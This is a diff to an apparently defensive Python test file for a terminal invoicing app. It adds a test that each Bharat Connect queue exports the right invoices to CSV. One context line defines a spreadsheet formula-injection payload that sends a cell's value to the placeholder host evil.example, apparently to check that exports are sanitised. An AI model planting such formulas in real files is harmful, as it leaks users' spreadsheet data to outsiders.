@@ -12,13 +12,14 @@ from decimal import Decimal
 from pathlib import Path
 from typing import Any
 
+import pytest
 from textual.pilot import Pilot
-from textual.widgets import Input
+from textual.widgets import Input, Static
 
 from enkash_tui import clock
 from enkash_tui.api.models import InvoiceFilter
-from enkash_tui.domain.bharat_connect import BY_KEY
-from enkash_tui.domain.exports import NO_RULES
+from enkash_tui.domain.bharat_connect import BY_KEY, QUEUES, Queue
+from enkash_tui.domain.exports import NO_RULES, file_name, queue_columns
 from enkash_tui.domain.invoices import OPEN
 from screens.bharat_connect.screen import BharatConnectScreen
 from screens.customers.screen import CustomersScreen
@@ -27,7 +28,7 @@ from screens.help import HelpScreen
 from tests.support.clients import signed_in
 from tests.support.driving import build_app, open_customers, open_reminders, sign_in, wait_until
 from tests.support.sandboxes import RunningSandbox
-from tests.support.screen_text import texts, titled_notes
+from tests.support.screen_text import drawn, texts, titled_notes
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -197,3 +198,44 @@ async def test_a_bharat_connect_queue_exports_every_invoice_with_its_payment(
             assert row["Payment id"] == bc.reported_payment.payment_id
             assert amount(row["Reported amount"]) == bc.reported_payment.amount
             assert amount(row["Balance"]) == invoice.balance_amount
+
+
+@pytest.mark.parametrize("queue", QUEUES, ids=[q.label for q in QUEUES])
+async def test_each_bharat_connect_queue_exports_its_own_invoices(
+    sandbox: RunningSandbox, queue: Queue, tmp_path: Path
+) -> None:
+    async with signed_in(sandbox.url) as client:
+        expected = [i.invoice_id async for i in client.iter_invoices(queue.filters)]
+    assert expected, f"the sandbox should have invoices in {queue.label!r}"
+    app = build_app(sandbox.url)
+    async with app.run_test(size=(130, 44)) as pilot:
+        await sign_in(pilot)
+        await pilot.press("f6")
+        screen = app.screen
+        assert isinstance(screen, BharatConnectScreen)
+        await wait_until(pilot, lambda: screen.loaded_at is not None, what="the first queue")
+        bar = " ".join(drawn(screen.query_one("#bc-queues", Static)))
+        assert f"{queue.key} {queue.label}" in bar or f"{queue.key} {queue.short}" in bar, bar
+        await pilot.press(queue.key)
+        await wait_until(
+            pilot,
+            lambda: screen.queue is queue and screen.loaded_at is not None,
+            what=f"the queue {queue.label!r}",
+        )
+        listed = [invoice.invoice_id for invoice in screen.rows]
+
+        written = await export_to(pilot, tmp_path / queue.key)
+        assert written.name == file_name("bharat-connect", queue.label, clock.today())
+        with written.open(encoding="utf-8", newline="") as handle:
+            header, *rows = list(csv.reader(handle))
+        assert header == [column.name for column in queue_columns(clock.today())]
+        ids = [row[header.index("Invoice id")] for row in rows]
+        assert sorted(ids) == sorted(expected)  # every invoice of the queue, each once
+        assert ids == listed  # in the list's order
+        statuses = queue.filters.bharat_connect_statuses
+        for row in rows:
+            cells = dict(zip(header, row, strict=True))
+            if statuses:
+                assert cells["Network status"] in statuses, cells
+            if queue.filters.bharat_connect_payment_pending:
+                assert cells["Payment id"], cells  # the payment the buyer reported
